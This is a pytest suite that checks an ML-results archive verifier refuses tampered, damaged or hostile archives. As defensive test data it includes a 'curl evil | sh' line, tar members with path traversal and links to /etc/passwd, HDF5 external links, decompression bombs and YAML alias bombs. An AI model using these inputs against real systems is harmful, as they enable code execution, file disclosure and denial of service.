"""Archives: equal content gives equal bytes, and changed, harmful or incomplete archives are refused."""

import functools
import gzip
import io
import json
import tarfile
from collections.abc import Callable
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import h5py
import numpy as np
import pytest
import yaml
from rocrate.rocrate import ROCrate

from factories import USE, image_data, on_validation, seal, trained, write_search
from handgrad.archive import unpack as unpacking
from handgrad.archive.labels import Labels
from handgrad.archive.pack import members_of, pack, write_archive
from handgrad.archive.tables import tables_again
from handgrad.archive.verify import verify_archive
from handgrad.common.code_digests import code_digest
from handgrad.common.errors import HandgradError
from handgrad.common.sealed_json import sealed_text, write_sealed_json
from handgrad.datasets.data import Dataset, Split, content_of, write_data
from handgrad.datasets.scaling import Scaling
from handgrad.experiment.config import Experiment, load_experiment
from handgrad.experiment.config_files import merge, read_config
from handgrad.experiment.registry import data_digest
from handgrad.experiment.runs import Run
from handgrad.gradient_check.results import PARTS
from handgrad.layout.paths import archived_outputs, run_file, run_files, search_files, table_files
from handgrad.storage.run_reader import read_summary
from handgrad.storage.run_writer import write_run
from handgrad.training.loop import State, TrainingResult

ROOT = Path(__file__).parents[2]
#: the learning rate at which a run diverged
DIVERGED = 0.003
RUN = "results/runs/digits/af_tanh_hu_5_lr_0.001_bs_10_ep_2_l2_0.01_seed_0.h5"
TABLES = "results/tiny/tables"
GATE = "results/checks/gate/digits_tanh.json"
CHECK = "results/checks/gradients/digits_tanh_hu_3_n_2_raw_eps_1e-05.json"
LABELS = "labels/digits.json"
COMPLETE = "config/experiment.yaml"
NO_ROOM = OSError(28, "No space left on device")

Members = dict[str, bytes]
Change = Callable[[Members], object]


def load(name: str, *entries: dict[str, Any]) -> Experiment:
    """Return an experiment on small digits with these entries."""
    axes = {"activation": "tanh", "hidden_units": 5, "batch_size": 10, "epochs": 2, "l2": 0.01, "seed": 0}
    blocks = [{"dataset": "digits", **axes, **entry} for entry in entries]
    small = {"name": name, "experiments": blocks, "gradient_check": {"hidden_units": 3, "examples": 2}}
    small["datasets"] = {"digits": {"train": 20, "test": 10, "class_names": ["a", "b", "c"]}}
    return load_experiment(merge(read_config([ROOT / "config/quick.yaml"]), small))


@functools.cache
def tiny() -> Experiment:
    return load("tiny", {"learning_rate": [0.001, 0.002, DIVERGED]})


RESULT = trained(tiny().runs[0], classes=3)
TEST, STATE = RESULT.test, RESULT.state
SCALED: dict[str, Any] = {**USE, "scaling": Scaling(1.0, scale=np.ones(6), shift=np.zeros(6))}


@functools.cache
def digits() -> Dataset:
    """Return a dataset with three test images that the runs misclassify."""
    labels = TEST.predictions.copy()
    labels[:3] = (labels[:3] + 1) % 3
    data = image_data(20, 10, digest=data_digest(tiny().datasets["digits"]))
    return replace(data, test=Split(data.test.x, labels))


def of_data() -> dict[str, str]:
    return {"data_digest": digits().digest, "data_content": content_of(digits())}


def result_of(run: Run) -> TrainingResult:
    """Return the result of a run: the lower its learning rate, the fewer validation faults."""
    result = replace(RESULT, run=run)
    if run.validation_size:
        result = on_validation(result, round(run.learning_rate * 1000) + run.seed)
    if run.learning_rate == DIVERGED:  # in the first epoch
        state = State(STATE.W, result.state.history[:1])
        result = replace(result, status="diverged", test=None, state=state)
    return result


def finish(folder: Path, experiment: Experiment) -> None:
    """Write all files of a finished experiment, made without training."""
    write_data(folder / "results/data/digits.h5", digits())
    code = {rule: code_digest(rule) for rule in ("train_run", "check_gate", "check_gradients")}
    trained_with = {"code_digest": code["train_run"], **of_data()}
    for run in experiment.runs:
        write_run(folder / run_file("digits", run.name), result_of(run), [], **trained_with, **SCALED)
    for search in experiment.searches:
        write_search(folder, experiment.name, search, result_of, trained_with, SCALED)
    about = {"dataset": "digits", "activation": "tanh", "passed": True, **of_data()}
    write_sealed_json(folder / GATE, about | {"code_digest": code["check_gate"]})
    figures = {"max_abs_difference": 1e-9, "max_rel_difference": 1e-12, "worst_entry": [0, 1], "count": 3}
    part = {**figures, "analytic": 0.5, "numeric": 0.5, "limit": 1e-10}
    block = {"shape": [5, 7], "entries": 35, "largest_gradient": 0.5, **dict.fromkeys(PARTS, part)}
    check = {**about, **asdict(experiment.gradient_check), "seed": 0, "blocks": {"W1": block, "W2": block}}
    check |= dict.fromkeys(("seconds_central", "seconds_complex", "plain_seconds_an_entry", "l2"), 0.5)
    write_sealed_json(folder / CHECK, check | {"code_digest": code["check_gradients"]})
    known = {"digits": Labels(experiment.datasets["digits"], content_of(digits()), digits().test.y)}
    runs = {path: read_summary(folder / path) for path in run_files(experiment)}
    texts = dict(tables_again(folder, experiment, known, runs, [check], code["train_run"]))
    made = {*run_files(experiment), *search_files(experiment), GATE, CHECK}
    for path in set(archived_outputs(experiment)) - made:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(texts.get(path, "a figure or page"))


def content_of_archive(folder: Path, experiment: Experiment) -> Members:
    """Write a finished experiment to a folder, and return the payload of its archive."""
    finish(folder, experiment)
    members = members_of(experiment, ROOT / "config/quick.yaml", folder)
    return {name: content if isinstance(content, bytes) else content.read_bytes() for name, content in members.items()}


@pytest.fixture(scope="module")
def _members(tmp_path_factory: pytest.TempPathFactory) -> Members:
    return content_of_archive(tmp_path_factory.mktemp("finished"), tiny())


@pytest.fixture
def members(_members: Members) -> Members:
    """Return the payload of an archive."""
    return dict(_members)


@pytest.fixture
def archive(members: Members, tmp_path: Path) -> Path:
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    return tmp_path / "t.tar.gz"


def refused(archive: Path) -> list[str]:
    """Return the mistakes in an archive, one line each. The last line names the code that packed it."""
    with pytest.raises(HandgradError) as caught:
        verify_archive(archive, Path("t.tar.gz"))
    return [line.removeprefix("t.tar.gz: ") for line in str(caught.value).splitlines()]


# --- packing


def test_every_table_of_an_experiment_is_made_again(tmp_path: Path) -> None:
    experiment = load("tiny", {"learning_rate": [0.1, 0.2, 0.3], "l2": [0.1, 0.2, 0.3]})
    finish(tmp_path, experiment)
    known = {"digits": Labels(experiment.datasets["digits"], content_of(digits()), digits().test.y)}
    runs = {path: read_summary(tmp_path / path) for path in run_files(experiment)}
    made = [path for path, _ in tables_again(tmp_path, experiment, known, runs, [], code_digest("train_run"))]
    assert sorted(made) == sorted(table_files(experiment))
    assert f"{TABLES}/importance.csv" in made


def test_an_archive_is_verified_though_a_run_diverged(archive: Path, members: Members) -> None:
    assert members[f"{TABLES}/results.csv"].count(b",diverged,") == 1
    assert verify_archive(archive, archive)


def test_the_same_content_makes_the_same_bytes(archive: Path, members: Members, tmp_path: Path) -> None:
    write_archive(tmp_path / "again.tar.gz", "tiny", dict(reversed(members.items())))
    assert (tmp_path / "again.tar.gz").read_bytes() == archive.read_bytes()
    with tarfile.open(archive) as tar:
        about = {(m.uid, m.gid, m.uname, m.gname, m.mode, m.mtime) for m in tar}
    assert about == {(0, 0, "", "", 0o644, 315532800)}


def test_other_programs_read_the_crate_and_need_no_network(members: Members, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.getaddrinfo", Mock(side_effect=NO_ROOM))
    crate = ROCrate(json.loads(members["ro-crate-metadata.json"]))
    assert {entity.id for entity in crate.get_by_type("File")} == set(members) - {"ro-crate-metadata.json"}
    whole, *runs = crate.root_dataset["mentions"]
    assert whole["instrument"] == crate.mainEntity
    assert [action["result"].id for action in runs] == run_files(tiny())


# --- changes by somebody who also changed the manifest


def edit(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
    """Change a JSON file and update its checksum, if it has one."""

    def edited(members: Members) -> None:
        content = json.loads(members[name])
        has_checksum = content.pop("sha256", None)
        change(content)
        members[name] = (sealed_text(content) if has_checksum else json.dumps(content)).encode()

    return edited


def edit_part(**changes: Any) -> Change:
    return edit(CHECK, lambda check: check["blocks"]["W2"]["step"].update(changes))


def edit_run(change: Callable[[h5py.File], object]) -> Change:
    """Change a run file and update its checksum."""

    def edited(members: Members) -> None:
        path = Path("run.h5")
        path.write_bytes(members[RUN])
        with h5py.File(path, "r+") as file:
            change(file)
        seal(path)
        members[RUN] = path.read_bytes()

    return edited


def other_run(digests: dict[str, str] | None = None, **changes: Any) -> Change:
    """Replace a run by a different run with right checksums."""

    def edited(members: Members) -> None:
        of = {"code_digest": code_digest("train_run"), **of_data(), **(digests or {})}
        write_run("run.h5", replace(RESULT, **changes), [], **of, **SCALED)
        members[RUN] = Path("run.h5").read_bytes()

    return edited


def history(**figures: Any) -> State:
    return replace(STATE, history=[replace(epoch, **figures) for epoch in STATE.history])


def other_array(file: h5py.File, **how: Any) -> None:
    del file["weights/W1"]
    file.create_dataset("weights/W1", **how)


def replace_bytes(name: str, old: bytes, new: bytes) -> Change:
    def edited(members: Members) -> None:
        assert old in members[name]
        members[name] = members[name].replace(old, new)

    return edited


def put(name: str, content: bytes) -> Change:
    return lambda members: members.update({name: content})


def take(name: str) -> Change:
    return lambda members: members.pop(name)


OTHERS = replace(TEST, predictions=(TEST.predictions + (np.arange(10) == 3).astype("u1")) % 3)

CHANGES: dict[str, tuple[Change, str, str]] = {
    "a run's file": (replace_bytes(RUN, b"sha256 ", b"sha256_"), RUN, "damaged"),
    "a prediction": (edit_run(lambda file: file["test/predictions"].write_direct(OTHERS.predictions)), RUN, "content_"),
    "a weight": (edit_run(lambda file: file["weights/W1"].write_direct(np.ones((5, 7), "f4"))), RUN, "content_sha256"),
    "predictions": (other_run(test=OTHERS), RUN, "faults"),
    "predictions and history": (other_run(test=OTHERS, state=history(test_faults=4)), RUN, "probable"),
    "fewer predictions": (other_run(test=replace(TEST, predictions=TEST.predictions[:2])), RUN, "shape"),
    "the scaling of an input": (
        edit_run(lambda file: file["scaling/scale"].write_direct(np.full(6, np.nan))),
        RUN,
        "scaling/scale",
    ),
    "a loss": (other_run(state=history(test_loss=0.1)), f"{TABLES}/results.csv", "0.1"),
    "an epoch less": (other_run(state=replace(STATE, history=STATE.history[:1])), RUN, "epochs"),
    "a run of other code": (other_run({"code_digest": "other"}), RUN, "other"),
    "a run of other data": (other_run({"data_content": "other"}), RUN, "other"),
    "another run": (other_run(run=tiny().runs[1]), RUN, "lr_0.002"),
    "the code that trained": (edit("provenance.json", lambda facts: facts["code"].update(train_run="0")), RUN, ""),
    "a label": (
        edit(LABELS, lambda facts: facts.update(test_labels=[2 - n for n in facts["test_labels"]])),
        RUN,
        "faults",
    ),
    "an impossible label": (edit(LABELS, lambda facts: facts["test_labels"].append(3)), LABELS, "less than 3"),
    "a label less": (edit(LABELS, lambda facts: facts["test_labels"].pop()), RUN, "test_examples"),
    "a figure of a check": (edit_part(max_rel_difference=0.5), CHECK, "W2, training's step"),
    "a limit of a check": (edit_part(limit=1), CHECK, "W2, training's step"),
    "a nan in a check": (edit_part(limit=float("nan")), CHECK, "W2, training's step"),
    "a part of a check": (edit(CHECK, lambda check: check["blocks"]["W1"].pop("complex")), CHECK, "complex"),
    "a verdict": (edit(GATE, lambda gate: gate.update(passed=False)), GATE, "passed"),
    "a verdict's text": (replace_bytes(GATE, b'"passed": true', b'"passed": false'), GATE, "changed"),
    "a gate of other code": (edit(GATE, lambda gate: gate.update(code_digest="other")), GATE, "code_digest"),
    "a gate of other data": (edit(GATE, lambda gate: gate.update(data_content="other")), GATE, "data_content"),
    "no run": (take(RUN), RUN, "missing"),
    "no gate": (take(GATE), GATE, "missing"),
    "no labels": (take(LABELS), LABELS, "missing"),
    "a file more": (put("results/tiny/more.html", b""), "results/tiny/more.html", "extra"),
    "a time": (edit("provenance.json", lambda facts: facts.pop("ended")), "", "ended"),
    "another format": (edit("provenance.json", lambda facts: facts.update(format=1)), "provenance.json", "format"),
    "no provenance": (put("provenance.json", b"[" * 99_999), "provenance.json", ""),
    "no experiment": (put(COMPLETE, b"{"), "", COMPLETE),
    "no text": (put(COMPLETE, b"\xff\xfe"), "", COMPLETE),
    "too many samples": (
        put(COMPLETE, b"experiments: [{l2: {uniform: [0, 1]}, samples: 1000000000, seed: [1, 2]}]"),
        COMPLETE,
        "2000000000",
    ),
    "too many runs": (put(COMPLETE, b"experiments: [{a: [%s], b: [%s]}]" % ((b"1," * 999,) * 2)), COMPLETE, "998001"),
    "aliases in aliases": (
        put(COMPLETE, b"".join(b"x%d: &x%d [%s]\n" % (i, i, b"*x%d," % (i - 1) * 9 * (i > 0)) for i in range(9))),
        "",
        "values",
    ),
    "other code": (
        lambda members: (
            edit("provenance.json", lambda facts: facts.update(git_revision="63258345"))(members),
            edit("provenance.json", lambda facts: facts["versions"].update(pandas="1.0"))(members),
            replace_bytes(COMPLETE, b"tanh", b"relu")(members),
        ),
        "NOT verified",
        "git revision '63258345'",
    ),
    # hostile run files
    "a link": (edit_run(lambda file: file.update({"weights/W3": h5py.ExternalLink("/etc/passwd", "/")})), RUN, "link"),
    "another file": (
        edit_run(lambda file: other_array(file, shape=(9,), dtype="u1", external=[("/etc/passwd", 0, 9)])),
        RUN,
        "W1",
    ),
    "a large array": (edit_run(lambda file: other_array(file, shape=(10**12,), dtype="u1")), RUN, "W1"),
    "a bomb": (edit_run(lambda file: other_array(file, shape=(10**12,), dtype="u1", chunks=(10**6,))), RUN, "W1"),
    "a text": (edit_run(lambda file: other_array(file, data="text")), RUN, "W1"),
    "another array": (edit_run(lambda file: file.update({"weights/W3": np.ones(3)})), RUN, "W3"),
    "an attribute": (edit_run(lambda file: file.attrs.update(more=np.zeros(5))), RUN, "attributes"),
}


@pytest.mark.parametrize("what", CHANGES)
def test_whatever_was_changed_is_found(
    members: Members, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    monkeypatch.chdir(tmp_path)
    change, member, said = CHANGES[what]
    change(members)
    write_archive(Path("t.tar.gz"), "tiny", members)
    assert any(line.startswith(member) and said in line for line in refused(Path("t.tar.gz")))


def test_whatever_can_be_made_again_must_be_equal(members: Members, tmp_path: Path) -> None:
    changes: dict[str, tuple[bytes, bytes]] = {
        f"{TABLES}/results.csv": (b",0.7,", b",0.8,"),
        f"{TABLES}/results.md": (b"70.00", b"71.00"),
        f"{TABLES}/seeds.csv": (b"tanh", b"cos"),
        f"{TABLES}/gradient_checks.csv": (b"tanh", b"tanh\n"),
        f"{TABLES}/best.html": (b"</table>", b""),
        LABELS: (b'"a"', b'"b"'),
        "README.md": (b"handgrad verify", b"curl evil | sh"),
        "ro-crate-metadata.json": (b"tanh", b"cos"),
    }
    for name, (old, new) in changes.items():
        replace_bytes(name, old, new)(members)
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    *lines, _ = refused(tmp_path / "t.tar.gz")
    assert sorted(line.partition(": ")[0] for line in lines) == sorted(changes)


# --- searches


@functools.cache
def find() -> Experiment:
    """Return an experiment with halving and finalists, with finalists alone, and with a run of both."""
    rates = {"learning_rate": [0.002, 0.001, DIVERGED, 0.004], "seed": [0, 1], "validation_size": 8}
    halving = {**rates, "halving": {"epochs": [1], "keep": "1/2"}, "finalists": {"count": 1, "seeds": [1, 7]}}
    finalists = {"learning_rate": [0.005, 0.006], "validation_size": 8, "finalists": {"count": 1, "seeds": [7, 8]}}
    return load("find", halving, finalists, {"learning_rate": 0.001, "seed": 7, "validation_size": 8})


FOUND = "results/find/search/0/digits"
RUNG = f"{FOUND}/rung_0/{find().searches[0].candidates[0].name}.json"
RANKED, LAST = f"{FOUND}/ranking_0.json", f"{FOUND}/ranking_1.json"
SLOT, OTHER_SLOT = f"{FOUND}/final/slot_0_seed_0.h5", f"{FOUND}/final/slot_1_seed_0.h5"
FOUND_TABLES = "results/find/tables"
NEW = f"{FOUND}/finalists/slot_0_seed_7.h5"
NEW_OF_WHOLE = "results/find/search/1/digits/finalists/slot_0_seed_7.h5"


@pytest.fixture(scope="module")
def _found(tmp_path_factory: pytest.TempPathFactory) -> Members:
    return content_of_archive(tmp_path_factory.mktemp("found"), find())


@pytest.fixture
def found(_found: Members) -> Members:
    """Return the payload of an archive with searches."""
    return dict(_found)


def verify(members: Members, path: Path) -> list[str]:
    write_archive(path, "find", members)
    return verify_archive(path, path)


def test_an_archive_of_searches_is_complete_and_verified(found: Members, tmp_path: Path) -> None:
    assert {*search_files(find()), *run_files(find()), "results/find/tables/search.csv"} <= set(found)
    assert verify(found, tmp_path / "t.tar.gz")
    again = tmp_path / "again.tar.gz"
    write_archive(again, "find", dict(reversed(found.items())))
    assert again.read_bytes() == (tmp_path / "t.tar.gz").read_bytes()


def test_a_run_that_two_entries_have_is_a_row_once_and_a_finalist(found: Members) -> None:
    lines = found["results/find/tables/results.csv"].decode().splitlines()
    name = find().runs[-1].name
    (line,) = (line for line in lines if f",{name}," in line)
    assert line.endswith(f"results/runs/digits/{name}.h5,finalist")
    assert len(lines) == 1 + len({*find().runs}) + 4 + 2
    assert json.loads(found["provenance.json"])["runs"].keys() == set(run_files(find()))


def test_the_crate_says_which_ranking_decided_on_a_run(found: Members) -> None:
    crate = ROCrate(json.loads(found["ro-crate-metadata.json"]))
    _, *actions = crate.root_dataset["mentions"]
    assert [action["result"].id for action in actions] == run_files(find())
    by_result = {action["result"].id: action for action in actions}
    for path, ranking in ((SLOT, RANKED), (NEW, LAST)):
        assert by_result[path]["instrument"].id == "#finish_candidate"
        assert crate.get(ranking) in by_result[path]["object"]
    assert by_result[run_files(find())[0]]["instrument"].id == "#train_run"


def swap(one: str, other: str) -> Change:
    return lambda members: members.update({one: members[other], other: members[one]})


def new_run(path: str, digests: dict[str, str] | None = None, **axes: Any) -> Change:
    """Replace a run file by that of a different run, with right checksums."""

    def edited(members: Members) -> None:
        Path("run.h5").write_bytes(members[path])
        run = replace(read_summary("run.h5").run, **axes)
        of = {"code_digest": code_digest("train_run"), **of_data(), **(digests or {})}
        write_run("run.h5", result_of(run), [], **of, **SCALED)
        members[path] = Path("run.h5").read_bytes()

    return edited


def too_many_finalists(members: Members) -> None:
    """Give two entries almost as many runs as one entry may have."""
    config = yaml.safe_load(members[COMPLETE])
    entry = {**config["experiments"][1], "l2": [i / 100 for i in range(99)], "learning_rate": 0.1}
    entry["finalists"] = {"count": 1, "seeds": list(range(1, 1001))}
    config["experiments"] = [entry, entry]
    members[COMPLETE] = yaml.safe_dump(config).encode()


#: test_search.py has more kinds of damage
SEARCH_CHANGES: dict[str, tuple[Change, str, str]] = {
    "a fault": (edit(RUNG, lambda rung: rung.update(validation_faults=[0])), RANKED, "does not follow"),
    "another run": (edit(RUNG, lambda rung: rung["run"].update(seed=5)), RUNG, "holds the run"),
    "a text for an axis": (edit(RUNG, lambda rung: rung["run"].update(validation_size="8")), RUNG, "not a result"),
    "other data": (edit(RUNG, lambda rung: rung.update(data_content="other")), RUNG, "data_content"),
    "deep JSON": (put(RUNG, b"[" * 99_999), RUNG, "not a result of a rung"),
    "a ranking": (edit(LAST, lambda ranking: ranking["settings"][0].update(validation_faults=0)), LAST, "not follow"),
    "no settings": (edit(RANKED, lambda ranking: ranking.update(settings=3)), RANKED, "not a ranking"),
    "a better slot": (new_run(SLOT, learning_rate=0.0005), SLOT, "holds the run"),
    "a finalist": (new_run(NEW, learning_rate=0.0005), NEW, "holds the run"),
    "a finalist of whole runs": (new_run(NEW_OF_WHOLE, learning_rate=0.006), NEW_OF_WHOLE, "holds the run"),
    "the table": (
        replace_bytes(f"{FOUND_TABLES}/search.csv", b",yes,", b",no,"),
        f"{FOUND_TABLES}/search.csv",
        "differs",
    ),
    "the mark of a finalist": (
        replace_bytes(f"{FOUND_TABLES}/results.csv", b",finalist", b","),
        f"{FOUND_TABLES}/results.csv",
        "differs",
    ),
    "the action of a slot": (
        replace_bytes("ro-crate-metadata.json", b"#finish_candidate", b"#train_candidate"),
        "ro-crate-metadata.json",
        "differs",
    ),
    "too many finalists": (too_many_finalists, COMPLETE, "too many runs in searches, found 198198"),
}


@pytest.mark.parametrize("what", SEARCH_CHANGES)
def test_whatever_was_changed_in_a_search_is_found(
    found: Members, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    monkeypatch.chdir(tmp_path)
    change, member, said = SEARCH_CHANGES[what]
    change(found)
    with pytest.raises(HandgradError) as caught:
        verify(found, Path("t.tar.gz"))
    lines = [line.removeprefix("t.tar.gz: ") for line in str(caught.value).splitlines()]
    assert any(line.startswith(member) and said in line for line in lines)
    assert not any("Traceback" in line or str(tmp_path) in line for line in lines)


# --- hostile or damaged archives


def repack(path: Path, change: Change, *more: tarfile.TarInfo) -> Path:
    """Change the files of an archive and add these members."""
    with tarfile.open(path) as tar:
        files = {member.name: tar.extractfile(member).read() for member in tar}  # type: ignore[union-attr]
    change(files)
    with tarfile.open(path, "w:gz") as tar:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
        for member in more:
            tar.addfile(member)
    return path


NAMES = ("../x", "tiny/../../y", "/etc/x", "tiny/a\x1b[2Jb", "tiny/.hidden", "other/a", "tiny/BAGIT.txt", "x")
KINDS = (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE, tarfile.GNUTYPE_SPARSE)


@pytest.mark.parametrize(
    ("name", "kind"), [*((name, tarfile.REGTYPE) for name in NAMES), *(("tiny/x", kind) for kind in KINDS)]
)
def test_a_harmful_member_is_refused_and_leaves_nothing(
    archive: Path, monkeypatch: pytest.MonkeyPatch, name: str, kind: bytes
) -> None:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, "/etc/passwd"
    repack(archive, lambda _: None, member)
    (archive.parent / "temporary").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(archive.parent / "temporary"))
    assert len(refused(archive)) == 2
    assert {path.name for path in archive.parent.rglob("*")} == {"t.tar.gz", "temporary"}


def add_to_manifest(line: str) -> Change:
    return replace_bytes("tiny/manifest-sha256.txt", b"\n", f"\n{line}\n".encode())


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (put("tiny/data/README.md", b"other"), "data/README.md"),
        (take("tiny/data/README.md"), "data/README.md"),
        (put("tiny/data/x", b""), "data/x"),
        (put("tiny/x", b""), "unexpected files: x"),
        (put("tiny/fetch.txt", b"http://x 1 data/y\n"), "unexpected files: fetch.txt"),
        (take("tiny/manifest-sha256.txt"), "missing or unexpected files: manifest-sha256.txt"),
        (put("tiny/bag-info.txt", b"a: b\n"), "bag-info.txt"),
        (replace_bytes("tiny/bagit.txt", b"UTF-8", b"zlib_codec"), "bagit.txt"),
        (add_to_manifest(f"{'0' * 64}  ../../x"), "../../x"),
        (add_to_manifest(f"{'0' * 64}  /etc/passwd"), "/etc/passwd"),
        (add_to_manifest(f"{'0' * 64}  data/README.md"), "data/README.md"),
    ],
)
def test_what_is_no_valid_bag_is_one_line(archive: Path, change: Change, said: str) -> None:
    line, _ = refused(repack(archive, change))
    assert said in line


@pytest.mark.parametrize(
    "damage",
    [
        *(lambda whole, end=end: whole[:end] for end in (0, 5, 100, 5000, -9, -1)),
        lambda whole: whole[:999] + bytes([whole[999] ^ 4]) + whole[1000:],
        lambda _: b"hello",
        lambda _: gzip.compress(b"hello"),
        lambda _: gzip.compress(bytes(10240)),
    ],
)
def test_a_damaged_archive_is_one_line(archive: Path, damage: Callable[[bytes], bytes]) -> None:
    archive.write_bytes(damage(archive.read_bytes()))
    assert len(refused(archive)) == 2


def test_what_unpacks_to_far_more_than_its_size_is_refused(archive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(unpacking, "MAX_TEXT", 1000)
    assert "allowed: 1.0 kB" in refused(archive)[0]
    monkeypatch.setattr(unpacking, "ALWAYS_ALLOWED", 100_000)
    repack(archive, put("tiny/data/zeros.h5", bytes(9_000_000)))
    assert "unpacks to more than" in refused(archive)[0]


# --- commands


@pytest.mark.parametrize("fault", [NO_ROOM, KeyboardInterrupt()])
@pytest.mark.parametrize("where", ["bagit.make_bag", "gzip.GzipFile.write", "bagit.Bag"])
def test_packing_that_ends_early_leaves_nothing(
    members: Members, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, fault: Any
) -> None:
    monkeypatch.setattr(where, Mock(side_effect=fault))
    with pytest.raises((OSError, HandgradError, KeyboardInterrupt)):
        pack(tmp_path / "archives/tiny.tar.gz", "tiny", members)
    assert not list((tmp_path / "archives").iterdir())


def test_neither_an_archive_is_replaced_nor_a_wrong_one_written(members: Members, tmp_path: Path) -> None:
    there = tmp_path / "archives/tiny.tar.gz"
    pack(there, "tiny", members)
    members[f"{TABLES}/seeds.csv"] += b"more\n"
    with pytest.raises(HandgradError, match="exists with different content"):
        pack(there, "tiny", members)
    with pytest.raises(HandgradError, match="NOT verified"):
        pack(there.with_name("other.tar.gz"), "tiny", members)
    assert list(there.parent.iterdir()) == [there]


def test_data_that_are_gone_are_named_with_their_command(tmp_path: Path) -> None:
    with pytest.raises(HandgradError, match=r"results/data/digits.h5: .* mine.yaml -- results/data/digits.h5"):
        members_of(tiny(), Path("mine.yaml"), tmp_path)
